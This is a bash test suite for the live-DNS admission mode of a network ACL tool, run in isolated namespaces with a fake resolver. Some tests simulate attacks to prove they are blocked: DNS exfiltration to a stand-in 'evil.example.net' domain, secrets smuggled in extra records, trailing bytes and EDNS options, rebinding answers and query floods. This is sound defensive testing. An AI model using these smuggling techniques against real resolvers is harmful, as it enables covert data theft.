# Live DNS (dns: admit) on the real kernel, in private network namespaces:
# public-looking addresses are local routes on the namespace's own lo
# (93.184.0.0/16, 2606:2800::/32, all answered by one listener on port
# 80), tests/dns/fakedns.py is the upstream on 127.0.0.1, and the
# workload's resolv.conf (bind-mounted) names a resolver that does not
# exist: only the capture can answer it.  No packet leaves the namespace.

# in_world RESOLV_CONF_LINES SCRIPT: run SCRIPT (bash) in a fresh network
# and mount namespace with the world above; DNSPORT is fakedns's port,
# its query log is $T/qlog.  What SCRIPT prints is in $T/out.
in_world() {
  rm -f "$T/dns.port" "$T/qlog" "$T/ports"
  cat > "$T/world.sh" <<EOF
set -e
export T=$T KT=$KT NETACL=$NETACL PROBE=$PROBE
ip link set lo up
ip route add local 93.184.0.0/16 dev lo
ip -6 route add local 2606:2800::/32 dev lo
$PY "$ROOT/tests/dns/fakedns.py" --port-file "$T/dns.port" --log "$T/qlog" --port-log "$T/ports" \
  ${FAKEDNS_ARGS:-} 2>"$T/dns.err" &
$PY -c '
import socket, threading
def serve(fam, addr):
    s = socket.socket(fam)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    if fam == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    s.bind((addr, 80)); s.listen(1024)
    while True:
        s.accept()[0].close()
threading.Thread(target=serve, args=(socket.AF_INET6, "::"), daemon=True).start()
serve(socket.AF_INET, "0.0.0.0")' &
for i in \$(seq 100); do [ -s "$T/dns.port" ] && break; sleep 0.05; done
DNSPORT=\$(cat "$T/dns.port")
printf '%s\n' "$1" > "$T/resolv.conf"
mount --bind "$T/resolv.conf" /etc/resolv.conf
set +e
export W="$PY $ROOT/tests/dns/workload.py"
# run the target with fakedns upstream
nrun() { "\$NETACL" run "\$T/p.yaml" --target "\$KT" --resolver 127.0.0.1:\$DNSPORT "\$@"; }
$2
kill \$(jobs -p) 2>/dev/null
EOF
  unshare -mn bash "$T/world.sh" > "$T/out" 2> "$T/err"
  rc=$?
}

# run_cleanup, and the cgroups of runs of $KT that died without taking
# theirs down (a test that killed its run, or a run that crashed)
dns_cleanup() {
  local d
  for d in "$CG2"/netacl/"$KT"@run-*; do
    [ -d "$d" ] || continue
    echo 1 > "$d/cgroup.kill" 2>/dev/null
    for _ in $(seq 50); do rmdir "$d" 2>/dev/null && break; sleep 0.1; done
  done
  run_cleanup
}

# dns_policy NAME [MORE YAML LINES]: an admit ACL named NAME
dns_policy() {
  { echo "version: 1"; echo "acls:"; echo "  $1:"; echo "    dns: admit"; echo "    allow:"
    echo '      - "*.cdn.example.com:80"'
    echo '      - "api.example.com:80"'
    shift; for l in "$@"; do echo "$l"; done; } > "$T/p.yaml"
}

test_kernel_dns_rotating_answers_never_refused() {
  need_kernel dnsrot; trap dns_cleanup EXIT
  dns_policy "$KT"
  # 1,000 resolve-then-connect rounds, each answer a new address (TTL 1)
  in_world "nameserver 192.0.2.53" "nrun -- \$W rounds 1000 rotate.cdn.example.com 4"
  expect_rc 0 || { cat "$T/err" >&2; return 1; }
  expect_out "rounds=1000 refused=0 failed=0" || { tail -5 "$T/err" >&2; return 1; }
  [ "$(grep -c "udp A rotate.cdn.example.com" "$T/qlog")" -ge 1000 ] ||
    fail "upstream saw $(grep -c rotate "$T/qlog") queries, not one per round"
}

test_kernel_dns_names_outside_the_policy_never_leave() {
  need_kernel dnsnx; trap dns_cleanup EXIT
  dns_policy "$KT"
  in_world "nameserver 192.0.2.53" "nrun -- sh -c '\$W resolve leak-the-secret.evil.example.net; \$W resolve x.cdn.example.com; \$W raw 192.0.2.53 secret.evil.example.net'"
  expect_rc 0 || return 1
  expect_out "error: [Errno -2] Name or service not known" || return 1
  expect_out "rcode=NXDOMAIN" || return 1
  ! grep -q evil "$T/qlog" || fail "the upstream saw: $(grep evil "$T/qlog")"
  grep -q "A x.cdn.example.com" "$T/qlog" || fail "an allowed name did not go upstream"
  expect_err "query for leak-the-secret.evil.example.net refused: no rule allows it"
}

test_kernel_dns_only_answered_public_addresses_open() {
  need_kernel dnsonly; trap dns_cleanup EXIT
  dns_policy "$KT" '      - "rebind.cdn.example.com:80"'
  in_world "nameserver 192.0.2.53" "nrun -- sh -c '\$W resolve a.cdn.example.com; \$W connect 93.184.77.77; \$W resolve rebind.cdn.example.com; \$W connect 192.168.1.10'"
  expect_rc 0 || return 1
  # a.cdn.example.com resolves to one address per family; others stay shut
  [ "$(sed -n 2p "$T/out")" = EPERM ] || fail "an address never answered: $(sed -n 2p "$T/out")"
  [ "$(sed -n 4p "$T/out")" = EPERM ] || fail "a rebinding answer opened 192.168.1.10"
  expect_err "192.168.1.10 for rebind.cdn.example.com not admitted: special-purpose address private-use"
}

test_kernel_dns_transports_and_families() {
  need_kernel dnstr; trap dns_cleanup EXIT
  dns_policy "$KT"
  local w='$W rounds 20 t.cdn.example.com any; $W raw 192.0.2.53 u.cdn.example.com; $W raw 2001:db8::53 v.cdn.example.com AAAA; $W raw ::ffff:192.0.2.53 w.cdn.example.com'
  # glibc over connected UDP, IPv4 resolver
  in_world "nameserver 192.0.2.53" "nrun -- sh -c '$w'"
  expect_rc 0 && expect_out "rounds=20 refused=0 failed=0" || return 1
  # unconnected UDP: the reply shows the address asked, IPv4, IPv6, mapped
  expect_out "from 192.0.2.53:53 id-ok rcode=NOERROR 93.184." || return 1
  expect_out "from 2001:db8::53:53 id-ok rcode=NOERROR 2606:2800:" || return 1
  expect_out "from ::ffff:192.0.2.53:53 id-ok rcode=NOERROR 93.184." || return 1
  # glibc over TCP (use-vc), IPv6 resolver
  in_world "nameserver 2001:db8::53
options use-vc" "nrun -- \$W rounds 20 t.cdn.example.com any"
  # (the resolver is unreachable but through the capture: TCP was captured)
  expect_rc 0 && expect_out "rounds=20 refused=0 failed=0" || return 1
}

test_kernel_dns_admissions_expire_and_are_capped() {
  need_kernel dnsexp; trap dns_cleanup EXIT
  dns_policy "$KT"
  # TTL 1, no floor, 1 s of grace: refused (and deleted by the 1 s tick)
  # 4 s later.  At most 4 per name:
  # each lookup is answered an IPv4 and an IPv6 address, a1's pair goes.
  in_world "nameserver 192.0.2.53" "nrun --dns-min-ttl 0 --dns-grace 1 --dns-max-per-name 4 -- sh -c '
    a1=\$(\$W resolve rotate.cdn.example.com | cut -d\" \" -f2); \$W connect \$a1
    a2=\$(\$W resolve rotate.cdn.example.com | cut -d\" \" -f2)
    a3=\$(\$W resolve rotate.cdn.example.com | cut -d\" \" -f2)
    \$W connect \$a1; \$W connect \$a2; \$W connect \$a3
    sleep 4; \$W connect \$a3
    bpftool -j map dump pinned \$NETACL_PIN_ROOT/\$KT%40run-\$PPID/admit4 |
      $PY -c \"import json,sys; print(len(json.load(sys.stdin)))\" > \$T/left'"
  expect_rc 0 || return 1
  [ "$(tr '\n' ' ' < "$T/out")" = "ok EPERM ok ok EPERM " ] ||
    fail "want ok (fresh), EPERM (past the cap), ok ok, EPERM (expired); got: $(tr '\n' ' ' < "$T/out")"
  # and the forwarder deleted them from the kernel map within seconds
  [ "$(cat "$T/left")" = 0 ] || fail "entries left in the kernel map: $(cat "$T/left")"
}

test_kernel_dns_no_forwarder_fails_closed() {
  need_kernel dnsnofwd; trap dns_cleanup EXIT
  # the resolver's address is allowed too: captured DNS still may not go there
  dns_policy "$KT" '      - "93.184.0.53:53"' '      - "[2606:2800::53]:53"'
  mkdir -p "$CG2/$KCG"
  load_ok "$T/p.yaml" --target "$KT" --offline --cgroup "$CG2/$KCG" || return 1
  # loaded, but nothing serves its DNS: lookups fail, nothing is admitted
  in_world "nameserver 93.184.0.53" "
    \"\$NETACL\" trace --json > \$T/ev.json 2>/dev/null &
    sleep 1
    $PROBE --cgroup $CG2/$KCG udp 93.184.0.53 53 tcp 93.184.0.53 53 udp 2606:2800::53 53 udp6 93.184.0.53 53 tcp6 93.184.0.53 53 tcp 127.0.0.1 \$DNSPORT; \$W resolve x.cdn.example.com
    sleep 0.5; kill -INT %3; wait %3"
  expect_rc 0 || return 1
  [ "$(awk 'NR <= 6 { print $1, $2, $3, $4 }' "$T/out" | tr '\n' ' ')" = "udp 93.184.0.53 53 deny tcp 93.184.0.53 53 deny udp 2606:2800::53 53 deny udp6 93.184.0.53 53 deny tcp6 93.184.0.53 53 deny tcp 127.0.0.1 $(cat "$T/dns.port") deny " ] ||
    fail "got: $(cat "$T/out")"
  [ "$(sed -n 7p "$T/out")" = "error: [Errno -3] Temporary failure in name resolution" ] ||
    fail "a lookup: $(sed -n 7p "$T/out")"
  [ ! -s "$T/qlog" ] || fail "the upstream was asked: $(cat "$T/qlog")"
  # the refusals are reported with the address asked for, mapped as mapped
  [ "$($PY -c 'import json,sys; print(" ".join(sorted({e["address"] for e in map(json.loads, open(sys.argv[1])) if e.get("port") == 53})))' "$T/ev.json")" = "2606:2800::53 93.184.0.53 ::ffff:93.184.0.53" ] ||
    fail "trace: $(cat "$T/ev.json")"
}

test_kernel_dns_forwarder_killed_admits_nothing_and_entries_still_expire() {
  need_kernel dnskill; trap dns_cleanup EXIT
  dns_policy "$KT"
  # the workload kills netacl run (its parent, the forwarder) and lives on
  # in the cgroup, still loaded: its answered address expires all the same
  in_world "nameserver 192.0.2.53" "nrun --dns-min-ttl 0 --dns-grace 1 -- sh -c '
    a=\$(\$W resolve rotate.cdn.example.com | cut -d\" \" -f2); \$W connect \$a
    kill -KILL \$PPID; sleep 0.2; \$W resolve x.cdn.example.com; \$W connect \$a
    sleep 3; \$W connect \$a; touch \$T/done'
    for i in \$(seq 100); do [ -e \$T/done ] && break; sleep 0.1; done"
  [ "$(tr '\n' ' ' < "$T/out")" = "ok error: [Errno -3] Temporary failure in name resolution ok EPERM " ] ||
    fail "want ok, no lookup, ok (unexpired), EPERM (expired); got: $(tr '\n' ' ' < "$T/out")"
  ! grep -q "x.cdn.example.com" "$T/qlog" || fail "a query went upstream with no forwarder"
  run "$NETACL" unload --all; expect_rc 0
}

test_kernel_dns_curl_and_urllib_by_name() {
  need_kernel dnshttp; trap dns_cleanup EXIT
  dns_policy "$KT" '      - "web.example.com:8080"'
  local get='import sys, urllib.request
print(urllib.request.urlopen("http://web.example.com:8080/", timeout=5).status)'
  # no resolver address in the policy: the lookups go through the capture
  in_world "nameserver 192.0.2.53" "$PY -m http.server 8080 --bind 0.0.0.0 >/dev/null 2>&1 &
    sleep 0.5
    nrun -- $PY -c '$get'
    nrun -- curl -sS -o /dev/null -w '%{http_code}\n' http://web.example.com:8080/
    nrun -- curl -sS -o /dev/null -w '%{http_code}\n' http://other.example.net:8080/"
  [ "$(sed -n 1,2p "$T/out" | tr '\n' ' ')" = "200 200 " ] || fail "got: $(cat "$T/out") $(cat "$T/err")"
  expect_err "Could not resolve host: other.example.net"
}

test_kernel_dns_admissions_survive_a_reload() {
  need_kernel dnsreload; trap dns_cleanup EXIT
  dns_policy "$KT"
  cp "$T/p.yaml" "$T/p2.yaml"
  echo '      - "93.184.250.250:80"' >> "$T/p2.yaml"
  # the workload is admitted an address, the target is refreshed (its
  # static sets change), and the address is still admitted
  in_world "nameserver 192.0.2.53" "nrun -- sh -c '
      a=\$(\$W resolve rotate.cdn.example.com | cut -d\" \" -f2); \$W connect \$a; \$W connect 93.184.250.250
      touch \$T/asked; while [ ! -e \$T/reloaded ]; do sleep 0.1; done
      \$W connect \$a; \$W connect 93.184.250.250' &
    while [ ! -e \$T/asked ]; do sleep 0.1; done
    \"\$NETACL\" refresh \$T/p2.yaml --target \$KT --resolver 127.0.0.1:\$DNSPORT >&2
    touch \$T/reloaded; wait %3"
  [ "$(tr '\n' ' ' < "$T/out")" = "ok EPERM ok ok " ] ||
    fail "want ok EPERM before, ok ok after the refresh; got: $(tr '\n' ' ' < "$T/out")"
  expect_err "+ $KT@run-" || return 1
}

test_kernel_dns_spoofed_answers_admit_nothing() {
  need_kernel dnsspoof; trap dns_cleanup EXIT
  dns_policy "$KT"
  # upstream answers with another ID (93.184.216.99), or with the right
  # ID and another question (93.184.216.98): neither is taken
  in_world "nameserver 192.0.2.53" "nrun --timeout 900 -- sh -c '
      \$W resolve wrongid.cdn.example.com; \$W connect 93.184.216.99
      \$W resolve wrongq.cdn.example.com; \$W connect 93.184.216.98'"
  [ "$(tr '\n' ' ' < "$T/out")" = "error: [Errno -3] Temporary failure in name resolution EPERM error: [Errno -3] Temporary failure in name resolution EPERM " ] ||
    fail "got: $(tr '\n' ' ' < "$T/out")"
  grep -q "A wrongq.cdn.example.com" "$T/qlog" || fail "the query did not go upstream"
}

test_kernel_dns_inspect_and_explain_show_admissions() {
  need_kernel dnsinsp; trap dns_cleanup EXIT
  dns_policy "$KT"
  in_world "nameserver 192.0.2.53" "nrun -- sh -c '
      a=\$(\$W resolve a.cdn.example.com | cut -d\" \" -f2); echo \$a
      \"\$NETACL\" inspect --target \$KT@run-\$PPID
      \"\$NETACL\" inspect --target \$KT@run-\$PPID --json > \$T/i.json
      \"\$NETACL\" explain \$T/i.json --target \$KT@run-\$PPID \$a 80 --proto tcp
      \"\$NETACL\" explain \$T/i.json --target \$KT@run-\$PPID \$a 81 --proto tcp'"
  local a; a=$(head -1 "$T/out")
  case "$a" in 93.184.*) ;; *) fail "no address: $(cat "$T/out")"; return 1 ;; esac
  grep -q "^  admitted $a via a.cdn.example.com, [0-9]* s left, port 80 any$" "$T/out" ||
    fail "inspect: $(cat "$T/out")"
  [ "$(jget "$T/i.json" "[e['via'] for t in d['targets'].values() for e in t.get('admitted', []) if e['addr'] == '$a/32']")" = "[['a.cdn.example.com']]" ] ||
    fail "inspect --json: $(cat "$T/i.json")"
  expect_out "admitted: $a/32 by the workload's lookup of a.cdn.example.com (live DNS), for" || return 1
  expect_out "deny: $a port 81" || return 1
}

test_kernel_dns_serve_loaded_targets_and_status() {
  need_kernel dnsserve; trap dns_cleanup EXIT
  dns_policy "$KT"
  mkdir -p "$CG2/$KCG"
  load_ok "$T/p.yaml" --target "$KT" --offline --cgroup "$CG2/$KCG" || return 1
  # a loaded target is served by `netacl serve`, and status says so; once
  # serve stops, its lookups are refused again
  in_world "nameserver 192.0.2.53" "
    inside() { sh -c 'echo \$\$ > $CG2/$KCG/cgroup.procs && exec \"\$@\"' sh \"\$@\"; }
    \"\$NETACL\" status | grep 'dns: admit'
    \"\$NETACL\" serve \$T/p.yaml --resolver 127.0.0.1:\$DNSPORT 2>\$T/serve.err &
    for i in \$(seq 50); do \"\$NETACL\" status | grep -q 'served by' && break; sleep 0.1; done
    \"\$NETACL\" status | grep 'dns: admit' | sed 's/pid [0-9]* on 127.0.0.1:[0-9]* and .::1.:[0-9]*/PID/'
    inside \$W rounds 50 s.cdn.example.com any
    \"\$NETACL\" status --json > \$T/s.json
    kill %3; wait %3
    \"\$NETACL\" status | grep 'dns: admit' | sed 's/, [0-9]* addresses/, N addresses/'
    inside \$W resolve t.cdn.example.com"
  expect_rc 0 || return 1
  [ "$(sed -n 1p "$T/out")" = "  dns: admit, not served: its lookups are refused, 0 addresses admitted" ] ||
    fail "before: $(sed -n 1p "$T/out")"
  case "$(sed -n 2p "$T/out")" in "  dns: admit, served by PID, "*" addresses admitted") ;;
    *) fail "served: $(sed -n 2p "$T/out")" ;; esac
  [ "$(sed -n 3p "$T/out")" = "rounds=50 refused=0 failed=0" ] || fail "rounds: $(sed -n 3p "$T/out")"
  [ "$(jget "$T/s.json" "[t['dns']['served'] and t['dns']['admitted'] > 0 for t in d['targets'] if t['target'] == '$KT']")" = "[True]" ] ||
    fail "status --json: $(cat "$T/s.json")"
  [ "$(sed -n 4p "$T/out")" = "  dns: admit, not served: its lookups are refused, N addresses admitted" ] ||
    fail "after: $(sed -n 4p "$T/out")"
  [ "$(sed -n 5p "$T/out")" = "error: [Errno -3] Temporary failure in name resolution" ] ||
    fail "after serve stopped: $(sed -n 5p "$T/out")"
  grep -q "serving the DNS of $KT" "$T/serve.err" || fail "serve said: $(cat "$T/serve.err")"
}

# A first load without dns: admit makes its admit maps of one entry (a
# `netacl run` need not wait for whole ones); the reload that brings dns:
# admit puts whole ones in their place before its programs read them, and
# the forwarder writes where the programs read.
test_kernel_dns_a_reload_that_brings_admit_admits() {
  need_kernel dnsgrow; trap dns_cleanup EXIT
  dns_policy "$KT"
  grep -v "dns: admit" "$T/p.yaml" > "$T/p0.yaml"
  mkdir -p "$CG2/$KCG"
  load_ok "$T/p0.yaml" --target "$KT" --offline --cgroup "$CG2/$KCG" || return 1
  entries() { bpftool map show pinned "$NETACL_PIN_ROOT/$KT/$1" -j | $PY -c 'import json, sys; print(json.load(sys.stdin)["max_entries"])'; }
  [ "$(entries admit4) $(entries admit6)" = "1 1" ] || fail "first load: $(entries admit4) $(entries admit6)"
  load_ok "$T/p.yaml" --target "$KT" --offline || return 1
  [ "$(entries admit4) $(entries admit6)" = "65536 65536" ] || fail "after the reload: $(entries admit4) $(entries admit6)"
  in_world "nameserver 192.0.2.53" "
    inside() { sh -c 'echo \$\$ > $CG2/$KCG/cgroup.procs && exec \"\$@\"' sh \"\$@\"; }
    \"\$NETACL\" serve \$T/p.yaml --resolver 127.0.0.1:\$DNSPORT 2>\$T/serve.err &
    for i in \$(seq 50); do \"\$NETACL\" status | grep -q 'served by' && break; sleep 0.1; done
    inside \$W rounds 50 s.cdn.example.com any
    kill %3; wait %3"
  expect_rc 0 || return 1
  [ "$(cat "$T/out")" = "rounds=50 refused=0 failed=0" ] || fail "rounds: $(cat "$T/out") $(cat "$T/err")"
}

test_kernel_dns_example_and_unit() {
  need_kernel dnsunit; trap dns_cleanup EXIT
  # the example policy, its ACL named like the test target
  sed "s|^  plugin:|  $KT:|" "$ROOT/examples/live-dns.yaml" > "$T/p.yaml"
  local serve; serve=$(unit_cmd netacl-dns.service ExecStart | sed "s|$ROOT/examples/live-dns.yaml|$T/p.yaml|")
  [ -n "$serve" ] || fail "no ExecStart in netacl-dns.service" || return 1
  mkdir -p "$CG2/$KCG"
  load_ok "$T/p.yaml" --target "$KT" --offline --cgroup "$CG2/$KCG" || return 1
  in_world "nameserver 192.0.2.53" "
    $serve --resolver 127.0.0.1:\$DNSPORT 2>\$T/serve.err &
    for i in \$(seq 50); do \"\$NETACL\" status | grep -q 'served by' && break; sleep 0.1; done
    kill -HUP %3; sleep 0.5
    for i in \$(seq 50); do \"\$NETACL\" status | grep -q 'served by' && break; sleep 0.1; done
    sh -c 'echo \$\$ > $CG2/$KCG/cgroup.procs && exec \$W raw 192.0.2.53 img.cdn.example.com'
    kill -TERM %3; wait %3; echo serve=\$?"
  expect_out "from 192.0.2.53:53 id-ok rcode=NOERROR 93.184." || return 1
  expect_out "serve=0" || return 1
  grep -q "reading $T/p.yaml again" "$T/serve.err" || fail "SIGHUP: $(cat "$T/serve.err")"
}

test_kernel_dns_trace_shows_lookups() {
  need_kernel dnstrace; trap dns_cleanup EXIT
  dns_policy "$KT" '      - "rebind.cdn.example.com:80"'
  in_world "nameserver 192.0.2.53" "
    \"\$NETACL\" trace --json > \$T/ev.json 2>\$T/trace.err &
    sleep 1
    nrun -- sh -c '\$W resolve a.cdn.example.com; \$W resolve secret.evil.example.net; \$W resolve rebind.cdn.example.com'
    sleep 0.5; kill -INT %3; wait %3"
  expect_rc 0 || return 1
  jev() { $PY -c 'import json,sys
for l in open(sys.argv[1]):
    e = json.loads(l)
    if e.get("event") == "dns" and e["target"].startswith(sys.argv[2]):
        print(e["verdict"], e["name"], e.get("address", "-"), e.get("row", "-"), "ttl" if "ttl" in e else "")' "$T/ev.json" "$KT@run-"; }
  jev > dns.ev
  grep -q "^admitted a.cdn.example.com 93.184.[0-9.]* - ttl$" dns.ev || fail "admitted: $(cat dns.ev)"
  grep -q "^refused secret.evil.example.net - - $" dns.ev || fail "refused: $(cat dns.ev)"
  grep -q "^not-admitted rebind.cdn.example.com 192.168.1.10 private-use $" dns.ev ||
    fail "not admitted: $(cat dns.ev)"
}

test_kernel_dns_upstream_source_ports_change() {
  need_kernel dnsports; trap dns_cleanup EXIT
  dns_policy "$KT"
  # 200 queries at once, answered after 0.3 s: c-ares alone sends queries
  # that overlap from one socket, so from one source port
  cat > "$T/burst.py" <<'E'
import socket
from dnslib import DNSRecord
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(200):
    s.sendto(DNSRecord.question("b%d.cdn.example.com" % i).pack(), ("192.0.2.53", 53))
s.settimeout(5)
n = 0
try:
    while n < 200:
        s.recv(4096); n += 1
except socket.timeout:
    pass
print("answers", n)
E
  FAKEDNS_ARGS="--delay-ms 300" in_world "nameserver 192.0.2.53" "nrun -- $PY \$T/burst.py"
  expect_rc 0 && expect_out "answers 200" || return 1
  local ports; ports=$(sort -u "$T/ports" | wc -l)
  [ "$ports" -ge 3 ] || fail "200 queries upstream came from $ports source ports"
}

test_kernel_dns_flood_is_bounded() {
  need_kernel dnsflood; trap dns_cleanup EXIT
  dns_policy "$KT"
  cat > "$T/flood.py" <<'E'
import socket
from dnslib import DNSRecord, RCODE
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
for i in range(2000):
    s.sendto(DNSRecord.question("f%d.cdn.example.com" % i).pack(), ("192.0.2.53", 53))
s.settimeout(5)
codes = {}
try:
    while sum(codes.values()) < 2000:
        r = DNSRecord.parse(s.recv(4096))
        codes[RCODE[r.header.rcode]] = codes.get(RCODE[r.header.rcode], 0) + 1
except socket.timeout:
    pass
print("servfail", codes.get("SERVFAIL", 0), "noerror", codes.get("NOERROR", 0))
E
  # upstream answers after 2 s; 2,000 queries at once: at most 256 go
  # upstream, the rest get SERVFAIL at once, and the forwarder serves on
  FAKEDNS_ARGS="--delay-ms 2000" in_world "nameserver 192.0.2.53" \
    "nrun -- sh -c '$PY \$T/flood.py; \$W raw 192.0.2.53 after.cdn.example.com'"
  expect_rc 0 || return 1
  local sf ok; read -r _ sf _ ok < <(head -1 "$T/out")
  [ "$ok" -le 256 ] && [ "$ok" -ge 200 ] && [ $((sf + ok)) -eq 2000 ] ||
    fail "want <= 256 answered upstream, the rest SERVFAIL: $(head -1 "$T/out")"
  local names; names=$(grep "udp A f" "$T/qlog" | sort -u | wc -l)
  [ "$names" -le 256 ] || fail "upstream was asked $names names"
  expect_out "id-ok rcode=NOERROR 93.184."
}

test_kernel_dns_clients_that_hang_up_do_not_kill_the_forwarder() {
  need_kernel dnshup; trap dns_cleanup EXIT
  dns_policy "$KT"
  # 50 TCP clients send 20 queries each and close without reading: the
  # answers then meet closed sockets (EPIPE, and SIGPIPE unless avoided)
  cat > "$T/hangup.py" <<'E'
import socket, struct
from dnslib import DNSRecord
q = DNSRecord.question("p.cdn.example.com").pack()
for i in range(50):
    s = socket.socket()
    s.connect(("192.0.2.53", 53))
    s.sendall((struct.pack("!H", len(q)) + q) * 20)
    s.close()
E
  in_world "nameserver 192.0.2.53" "nrun -- sh -c '$PY \$T/hangup.py; sleep 1; \$W resolve x.cdn.example.com'; echo run=\$?"
  expect_out "run=0" || return 1
  grep -q "^93.184" "$T/out" || grep -q " 93.184" "$T/out" || fail "no answer after: $(cat "$T/out")"
}

test_kernel_dns_nothing_but_the_question_goes_upstream() {
  need_kernel dnsclean; trap dns_cleanup EXIT
  dns_policy "$KT"
  cat > "$T/smuggle.py" <<'E'
import socket
from dnslib import DNSRecord, RR, QTYPE, TXT, EDNS0, EDNSOption
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
def ask(b):
    s.sendto(b, ("192.0.2.53", 53))
    try:
        print(DNSRecord.parse(s.recv(4096)).header.rcode)
    except Exception as e:
        print("error", e)
q = DNSRecord.question("a.cdn.example.com")
q.add_ar(RR("secret.evil.example.net", QTYPE.TXT, rdata=TXT("hunter2")))
ask(q.pack())
ask(DNSRecord.question("b.cdn.example.com").pack() + b"TRAILING-SECRET")
q = DNSRecord.question("c.cdn.example.com")
q.add_ar(EDNS0(udp_len=4096, opts=[EDNSOption(65001, b"EDNS-SECRET")]))
ask(q.pack())
E
  FAKEDNS_ARGS="--raw-log $T/raw" in_world "nameserver 192.0.2.53" "nrun -- $PY \$T/smuggle.py"
  expect_rc 0 || return 1
  # FORMERR (1) for the record and the trailing bytes; the OPT is replaced
  [ "$(tr '\n' ' ' < "$T/out")" = "1 1 0 " ] || fail "rcodes: $(tr '\n' ' ' < "$T/out")"
  grep -qa "cdn" "$T/raw" || fail "nothing went upstream"
  ! grep -qaE "hunter2|secret|TRAILING|EDNS-SECRET" "$T/raw" || fail "smuggled bytes reached the upstream"
}

test_kernel_dns_an_address_keeps_only_what_its_live_names_allow() {
  need_kernel dnsnarrow; trap dns_cleanup EXIT
  dns_policy "$KT" '      - "shared.example.org:8080"'
  # one address, answered for two names: short.cdn.example.com (port 80,
  # TTL 1) and shared.example.org (port 8080, TTL 60); once the first
  # expires, port 80 closes while 8080 stays (refused is EPERM; allowed,
  # with nobody listening on 8080, is ECONNREFUSED)
  printf 'short.cdn.example.com A 93.184.9.9 1\nshared.example.org A 93.184.9.9 60\n' > "$T/zone"
  FAKEDNS_ARGS="--zone $T/zone" in_world "nameserver 192.0.2.53" "nrun --dns-min-ttl 0 --dns-grace 1 -- sh -c '
    \$W resolve short.cdn.example.com >/dev/null; \$W resolve shared.example.org >/dev/null
    \$W connect 93.184.9.9 80; \$W connect 93.184.9.9 8080
    sleep 4; \$W connect 93.184.9.9 80; \$W connect 93.184.9.9 8080'"
  [ "$(tr '\n' ' ' < "$T/out")" = "ok ECONNREFUSED EPERM ECONNREFUSED " ] ||
    fail "want ok ECONNREFUSED, then EPERM ECONNREFUSED; got: $(tr '\n' ' ' < "$T/out")"
}

test_kernel_dns_a_socket_connected_to_port_53_before_admit_is_refused() {
  need_kernel dnsearly; trap dns_cleanup EXIT
  # static, the resolver's address allowed: a UDP socket in the cgroup is
  # connected to it.  Reloaded with dns: admit and served, a send on that
  # socket (with a control message, so that sendmsg4 runs) has no name to
  # send to the forwarder: it is refused, never let through to the resolver
  dns_policy "$KT" '      - "93.184.0.53:53"'
  sed 's/dns: admit/dns: static/' "$T/p.yaml" > "$T/static.yaml"
  mkdir -p "$CG2/$KCG"
  load_ok "$T/static.yaml" --target "$KT" --offline --cgroup "$CG2/$KCG" || return 1
  cat > "$T/early.py" <<E
import errno, os, socket, struct, time
open("$CG2/$KCG/cgroup.procs", "w").write("0")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("93.184.0.53", 53))
def send():
    try:
        s.sendmsg([b"q"], [(socket.IPPROTO_IP, socket.IP_TOS, struct.pack("i", 0x10))])
        return "sent"
    except OSError as e:
        return errno.errorcode[e.errno]
print(send(), flush=True)
open("$T/connected", "w").close()
while not os.path.exists("$T/admit"):
    time.sleep(0.05)
print(send())
E
  in_world "nameserver 93.184.0.53" "$PY \$T/early.py &
    while [ ! -e \$T/connected ]; do sleep 0.05; done
    \"\$NETACL\" load \$T/p.yaml --target \$KT --offline 2>/dev/null
    \"\$NETACL\" serve \$T/p.yaml --resolver 127.0.0.1:\$DNSPORT 2>/dev/null &
    for i in \$(seq 50); do \"\$NETACL\" status | grep -q 'served by' && break; sleep 0.1; done
    touch \$T/admit; wait %3; kill %4"
  [ "$(tr '\n' ' ' < "$T/out")" = "sent EPERM " ] || fail "want sent (static), EPERM (admit); got: $(cat "$T/out")"
}
